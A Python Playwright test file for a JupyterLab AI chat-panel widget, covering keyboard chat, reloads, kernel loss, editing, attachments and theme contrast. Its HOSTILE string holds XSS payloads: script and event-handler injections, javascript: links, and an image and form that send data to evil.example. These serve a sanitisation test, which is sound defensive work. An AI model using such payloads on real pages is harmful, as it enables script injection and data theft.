"""The chat panel as a person uses it: JupyterLab in a real browser, in front of a real kernel."""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from jupyter_lab import (
    Desk,
    choose_theme,
    contrast,
    lose_kernel,
    notebook_of,
    placeholder_contrast,
    reload,
    run_all,
    save,
    serious_barriers,
    wait_until_narrow,
)
from nbconvert import HTMLExporter
from panel_service import Tap
from playwright.sync_api import Locator, Page, expect
from served import KEY, served, wait_until_idle

from skytells_nb.local.server import LocalServer
from skytells_nb.widgets.chat_panel.view import PanelView

CELL = "import skytells_nb as sky\ntotal = 7\npanel = sky.widgets.ChatPanel(model='gpt-5', system='Be brief.')\npanel"
COMMANDS = " ".join(f"word{n}" for n in range(40))
ANSWER = """Euler: $e^{i\\pi} = -1$ costs $5 and then $10

$$\\int_0^1 x^2 dx = \\frac{1}{3}$$

```python
x = 1  # one
y = "two"
```

| a | [b](https://evil.example/) |
|---|---|
| 1 | 2 |

See [this](https://evil.example/) too.

- [x] done

```bash
ls
```"""
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6364f8cf500f0003860180"
    "5a347d6b0000000049454e44ae426082"
)
HOSTILE = """<script>window.hacked = 1</script> <img src="x" onerror="window.hacked = 2">
<iframe srcdoc="<script>parent.hacked = 3</script>"></iframe> <svg onload="window.hacked = 4"></svg>

[click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>)

![pixel](https://evil.example/pixel?secret=1)

<style>body { display: none }</style> <form action="https://evil.example/"><button>ok</button></form>

<div style="position: fixed; inset: 0; z-index: 99999; background: red">cover</div>

| a | b |
|---|---|
| 1 | `<b onmouseover=alert(1)>` |

```html
</code></pre><script>window.hacked = 7</script>
```
done"""


@dataclass
class Chat:
    """A notebook with a running panel."""

    page: Page
    panel: Locator
    input: Locator
    log: Locator
    server: LocalServer
    tap: Tap
    file: Path
    outside: list[str]
    dialogs: list[str]
    shots: Path

    def turns(self) -> Locator:
        return self.log.locator(".skytells-turn")

    def ask(self, text: str) -> None:
        """Write and send by keyboard, and wait for the whole answer."""
        before = self.turns().count()
        self.input.fill(text)
        self.input.press("Enter")
        expect(self.turns()).to_have_count(before + 2)
        expect(self.panel.locator(".skytells-send")).to_be_visible()

    def saved(self) -> Any:
        """The notebook's file, once it holds what the page does."""
        save(self.page)
        return json.loads(self.file.read_text())

    def shot(self, name: str) -> None:
        self.page.screenshot(path=str(self.shots / f"panel-{name}.png"))


@contextlib.contextmanager
def opened(tmp_path: Path, desk: Desk) -> Iterator[Chat]:
    """JupyterLab with the panel on the page, its kernel connected to a local Skytells of this process."""
    tap = Tap()
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(served(generator=tap))
        stack.callback(tap.flow)
        settings = {"SKYTELLS_BASE_URL": server.base_url, "SKYTELLS_API_KEY": KEY, "SKYTELLS_CACHE": "off"}
        notebook = stack.enter_context(desk.opened(notebook_of([CELL, "1 + 1"]), settings))
        page = notebook.page
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        run_all(page)
        panel = page.locator(".skytells-panel")
        expect(panel).to_be_visible()
        shots = Path(os.environ.get("SCREENSHOTS", tmp_path))
        field, log = panel.locator(".skytells-input"), panel.locator(".skytells-log")
        yield Chat(page, panel, field, log, server, tap, notebook.file, notebook.outside, dialogs, shots)


def grown(page: Page, length: int) -> int:
    """The length of the growing answer once it is above this one."""
    script = """(length) => {
        const log = document.querySelector('.skytells-log[aria-busy="true"]');
        const answer = log?.querySelector('.skytells-turn:last-child .skytells-answer');
        return answer && answer.textContent.length > length ? answer.textContent.length : 0;
    }"""
    return int(page.wait_for_function(script, arg=length).json_value())


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(600)
def test_a_conversation_by_keyboard_outlives_page_and_kernel(tmp_path: Path, desk: Desk) -> None:
    """Type, watch it grow, stop it, ask on; a reload shows every turn, and the saved file needs no kernel."""
    with opened(tmp_path, desk) as lab:
        expect(lab.page.locator(".skytells-chat")).to_be_hidden()
        lab.tap.shut()
        lab.input.focus()
        lab.page.keyboard.type("first line")
        lab.page.keyboard.press("Shift+Enter")
        lab.page.keyboard.type(COMMANDS)
        lab.page.keyboard.press("Enter")
        lengths = [grown(lab.page, 0)]
        for _ in range(3):
            lab.tap.let(6)
            lengths.append(grown(lab.page, lengths[-1]))
        expect(lab.input).to_have_value("")
        lab.page.keyboard.press("Escape")
        expect(lab.log.locator(".skytells-ending")).to_contain_text("interrupted")
        assert wait_until_idle(lab.server, "chat").in_flight == 0
        assert not lab.server.stats.records[-1].complete
        partial = lab.log.locator(".skytells-answer").inner_text().strip()
        assert "word0" in partial
        assert "word39" not in partial

        lab.tap.flow()
        expect(lab.input).to_be_focused()
        lab.page.keyboard.type("and the second?\n")
        expect(lab.turns()).to_have_count(4)
        expect(lab.turns().last).to_contain_text("and the second?")
        system, question, answer, _ = lab.tap.messages[-1]
        assert system == {"role": "system", "content": "Be brief."}
        assert question == {"role": "user", "content": f"first line\n{COMMANDS}"}
        assert answer["content"].split() == partial.split()
        assert lab.page.locator(".jp-Cell").count() == 2

        lab.saved()
        lab.tap.shut()
        lab.page.keyboard.type(f"during the reload {COMMANDS}\n")
        grown(lab.page, 0)
        reload(lab.page, ".skytells-log .skytells-turn")
        expect(lab.turns()).to_have_count(6)
        lab.tap.let(6)
        grown(lab.page, 0)
        lab.panel.locator(".skytells-stop").click()
        expect(lab.log.locator(".skytells-ending")).to_have_count(2)
        expect(lab.input).to_be_focused()
        lab.tap.flow()
        expect(lab.log.locator(".skytells-answer").first).to_have_text(partial, use_inner_text=True)
        lab.ask("after the reload")
        expect(lab.page.locator(".skytells-chat")).to_be_hidden()

        outputs = lab.saved()["cells"][0]["outputs"]
        kept = "".join(outputs[1]["data"]["text/plain"])
        assert kept.count("after the reload") == 2
        assert "word0" in kept
        assert KEY not in lab.file.read_text()
        page, _ = HTMLExporter().from_filename(str(lab.file))
        assert page.count("after the reload") == 2
        lose_kernel(lab.page)
        transcript = lab.page.locator(".skytells-chat")
        expect(transcript).to_be_visible()
        expect(transcript).to_contain_text("after the reload")
        lost = lab.page.locator(".jp-OutputArea-output", has_text="Loading widget")
        expect(lost).to_be_attached()
        expect(lost).to_be_hidden()
        lab.shot("saved")
        assert lab.outside == []


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(600)
def test_a_turn_is_asked_again_and_its_code_goes_into_a_cell(tmp_path: Path, desk: Desk) -> None:
    """Formulas, code, retry, edit, attachments, a new chat; a restarted kernel is said at once, with the input kept."""
    with opened(tmp_path, desk) as lab:
        greeting, send = lab.panel.locator(".skytells-greeting"), lab.panel.locator(".skytells-send")
        expect(greeting).to_contain_text("Attach… adds a variable")
        expect(send).to_be_disabled()
        lab.input.fill("typed")
        expect(send).to_be_enabled()
        lab.ask(ANSWER)
        expect(greeting).to_be_hidden()
        expect(send).to_be_disabled()
        last = lab.turns().last
        expect(last.locator("li")).to_have_css("list-style-type", "none")
        tools = lab.turns().first.locator(".skytells-tools")
        lab.panel.locator(".skytells-bar").hover()
        expect(tools).to_have_css("opacity", "0")
        tools.get_by_role("button", name="Edit your message").focus()
        expect(tools).to_have_css("opacity", "1")
        expect(last.locator("mjx-container")).to_have_count(2)
        expect(last).to_contain_text("costs $5 and then $10")
        last.get_by_role("button", name="Into a new cell: the python code").click()
        last.get_by_role("button", name="Into a new cell: the bash code").click()
        expect(lab.page.locator(".jp-Cell")).to_have_count(4)
        expect(lab.panel.locator(".skytells-status")).to_have_text("Put into a new cell below. It is not run.")
        sources = [cell["source"] for cell in lab.saved()["cells"]]
        assert ["".join(source) for source in sources[1:3]] == ['x = 1  # one\ny = "two"', "%%bash\nls"]

        # The saved transcript is shown beside the panel.
        lab.panel.locator("style").evaluate("(node) => node.remove()")
        expect(lab.page.locator(".skytells-chat")).to_be_visible()
        for theme in ("JupyterLab Dark", "JupyterLab Light"):
            choose_theme(lab.page, theme)
            assert serious_barriers(lab.page, ".skytells-panel, .skytells-chat") == []

        last.get_by_role("button", name="Retry").click()
        expect(lab.panel.locator(".skytells-status")).to_contain_text("with 1 replaced answer")
        expect(lab.turns()).to_have_count(2)
        lab.ask("and the second")
        expect(lab.log.get_by_role("button", name="Retry")).to_have_count(1)
        lab.turns().first.get_by_role("button", name="Edit your message").click()
        field = lab.log.get_by_role("textbox", name="Edit your message")
        expect(field).to_have_value(ANSWER)
        expect(field).to_be_focused()
        field.press("Escape")
        expect(lab.turns().first.locator(".skytells-words")).to_be_visible()
        lab.turns().first.get_by_role("button", name="Edit your message").click()
        field.fill("edited")
        field.press("Enter")
        expect(lab.turns()).to_have_count(2)
        expect(lab.turns().last.locator(".skytells-answer")).to_have_text("edited", use_inner_text=True)
        assert lab.tap.messages[-1][-1] == {"role": "user", "content": "edited"}

        lab.panel.get_by_role("button", name="Attach…").click()
        variable = lab.panel.get_by_role("combobox", name="Name of a variable to attach")
        expect(lab.panel.locator("datalist option")).to_have_count(1)
        variable.fill("n")
        variable.press("Enter")
        expect(lab.panel.locator(".skytells-status")).to_contain_text("must have the variable to attach, got 'n'")
        variable.fill("total")
        variable.press("Enter")
        with lab.page.expect_file_chooser() as chosen:
            lab.panel.get_by_role("button", name="Image file…").click()
        chosen.value.set_files({"name": "dot.png", "mimeType": "image/png", "buffer": PNG})
        expect(lab.panel.locator(".skytells-chip")).to_have_text(
            ["total (int) \u00d7", "dot.png (PNG image, 1 kB) \u00d7"]
        )
        lab.shot("attached")
        lab.panel.get_by_role("button", name="Remove dot.png").click()
        expect(lab.panel.locator(".skytells-chip")).to_have_count(1)
        lab.ask("what is it")
        assert lab.tap.messages[-1][-1]["content"] == "what is it\n\ntotal (int):\n```\n7\n```"
        expect(lab.turns().nth(2).locator("summary")).to_have_text("Attached: total (int)")

        lab.panel.get_by_role("button", name="New chat").click()
        expect(lab.turns()).to_have_count(0)
        expect(lab.panel.locator(".skytells-status")).to_have_text("")
        lab.tap.shut()
        lab.input.fill(f"lost {COMMANDS}")
        lab.input.press("Enter")
        grown(lab.page, 0)
        lab.input.fill("typed meanwhile")
        lab.page.evaluate(
            "async () => { await window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart(); }"
        )
        notice = lab.panel.get_by_role("alert")
        expect(notice).to_have_text("The kernel was restarted. Run the cell again to go on; what you typed is kept.")
        lab.input.press("Enter")
        expect(lab.input).to_have_value("typed meanwhile")
        expect(lab.panel.locator(".skytells-send")).to_be_disabled()
        lab.shot("lost")
        lab.tap.flow()
        run_all(lab.page)
        expect(notice).to_be_hidden()
        expect(lab.panel.locator(".skytells-send")).to_be_enabled()
        expect(lab.input).to_have_value("typed meanwhile")
        lab.ask("it goes on")
        lab.page.evaluate("async () => { await window.jupyterapp.shell.currentWidget.sessionContext.shutdown(); }")
        expect(notice).to_contain_text("The kernel was shut down.")
        assert lab.outside == []


PAGE_OF_A_PANEL = """async (source) => {
    const traits = { title: "", turns: [], busy: false, notice: "", attachments: [], totals: "", models: ["m"],
        model: "m", system: "", saved_class: "x" };
    const on = {};
    const model = { get: (name) => traits[name], on: (event, does) => (on[event] ??= []).push(does), off() {} };
    const module = await import(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
    module.default.render({ model, el: document.body });
    const part = (id, html) => on["msg:custom"].forEach((does) => does({ kind: "part", id, html }));
    const update = (changes) => {
        Object.assign(traits, changes);
        for (const name of Object.keys(changes)) on[`change:${name}`].forEach((does) => does());
    };
    const drawn = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    const log = document.querySelector(".skytells-log");
    const words = (count) => "<p>words</p>".repeat(count);
    const reasoning = (count) => `<details><summary>Reasoning</summary>${words(count)}</details>`;
    const bare = { attachments: [], ending: "", facts: "", badge: { text: "" }, problem: null };
    const turn = (role, html) => ({ ...bare, role, who: role, text: "t", html });
    const ask = turn("user", "");
    const read = async (unfold, top) => {
        const seen = [];
        const look = async () => {
            await drawn();
            seen.push([log.scrollTop, log.querySelector("details").open]);
        };
        update({ turns: [ask], busy: true });
        part("why", reasoning(40));
        await drawn();
        log.querySelector("details").open = unfold;
        part("answer", words(60));
        log.scrollTop = top ?? log.scrollHeight;
        const end = () => log.scrollHeight - log.clientHeight;
        for (const count of [50, 60]) part("why", reasoning(count)), await look();
        for (const count of [70, 80]) part("answer", words(count)), await look();
        update({ turns: [ask, turn("assistant", reasoning(60) + words(80))], busy: false });
        await look();
        const followed = Math.abs(log.scrollTop - end()) < 2;
        update({ turns: [] });
        return [seen, followed];
    };
    await drawn();
    return [await read(true, 200), await read(false, 200), await read(true, null), await read(false, null)];
}"""


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(600)
def test_a_growing_answer_moves_no_reader_and_folds_nothing_that_was_opened(desk: Desk) -> None:
    """Above the end the page stays where it was scrolled to, also when the answer is complete; there it follows."""
    page = desk.browser.new_page()
    page.set_content(f"<style>{PanelView._css}</style>")
    unfolded, folded, *ends = page.evaluate(PAGE_OF_A_PANEL, str(PanelView._esm))
    page.close()
    assert unfolded == [[[200, True]] * 5, False]
    assert folded == [[[200, False]] * 5, False]
    for opened, (seen, followed) in zip((True, False), ends, strict=True):
        assert followed
        assert {is_open for _, is_open in seen} == {opened}


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.timeout(600)
def test_a_hostile_answer_is_text_in_every_theme(tmp_path: Path, desk: Desk) -> None:
    """No script, no request, no dialog, nothing over the page; keys on the panel's buttons are no notebook commands."""
    with opened(tmp_path, desk) as lab:
        lab.ask(HOSTILE)
        expect(lab.turns().last).to_contain_text("done")
        for link in lab.log.locator(".skytells-answer a").all():
            assert (link.get_attribute("href") or "").startswith("https://evil.example/")
            assert link.get_attribute("target") == "_blank"
        harmful = "script, img, iframe, svg, style, form, [onerror], [onload], [style]"
        assert lab.log.locator(".skytells-answer").locator(harmful).count() == 0
        lab.ask("violence:low words")
        expect(lab.turns().last.locator(".skytells-badge")).to_contain_text("violence low in the answer")

        lab.ask("violence:high words")
        expect(lab.turns().last.locator(".skytells-problem")).to_contain_text("The safety filter blocked this prompt.")
        expect(lab.turns().last.locator(".skytells-badge")).to_contain_text("prompt blocked")
        expect(lab.input).to_have_value("violence:high words")

        models = lab.panel.locator(".skytells-models")
        models.focus()
        lab.page.keyboard.press("ArrowDown")
        chosen = models.input_value()
        assert chosen != "gpt-5"
        lab.panel.locator(".skytells-send").focus()
        lab.page.keyboard.press("x")
        lab.page.keyboard.press("d")
        lab.page.keyboard.press("d")
        expect(lab.page.locator(".jp-Cell")).to_have_count(2)
        lab.ask("for another model")
        assert lab.server.stats.records[-1].model == chosen

        lab.turns().last.locator(".skytells-copy").click()
        expect(lab.turns().last.locator(".skytells-copy")).to_have_text("Copied")
        lab.input.fill("")
        lab.input.focus()
        lab.page.keyboard.press("Control+V")
        expect(lab.input).to_have_value("for another model")

        lab.ask("Euler $e^{x}$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://evil.example/) <think>why</think>")
        lab.ask("```python\nx = 1  # one\n```")
        block = lab.turns().last.get_by_role("button", name="Copy the python code")
        block.click()
        expect(block).to_have_text("Copied")
        lab.input.fill("")
        lab.input.focus()
        lab.page.keyboard.press("Control+V")
        expect(lab.input).to_have_value("x = 1  # one\n")

        for theme in ("JupyterLab Light", "JupyterLab Dark"):
            choose_theme(lab.page, theme)
            lab.shot(theme.split()[-1].lower())
            color, ground = lab.panel.evaluate(
                "(node) => [getComputedStyle(node).color, getComputedStyle(document.querySelector('.jp-Notebook'))"
                ".backgroundColor]"
            )
            assert contrast(color, ground) > 7
            # axe-core looks at no placeholder.
            for field in (".skytells-input", ".skytells-system", ".skytells-variable"):
                assert placeholder_contrast(lab.panel.locator(field)) >= 4.5
        lab.page.set_viewport_size({"width": 420, "height": 900})
        expect(lab.panel).to_be_visible()
        wait_until_narrow(lab.page, ".skytells-panel")
        lab.shot("narrow")
        assert lab.page.evaluate("window.hacked") is None
        assert lab.dialogs == []
        assert lab.outside == []
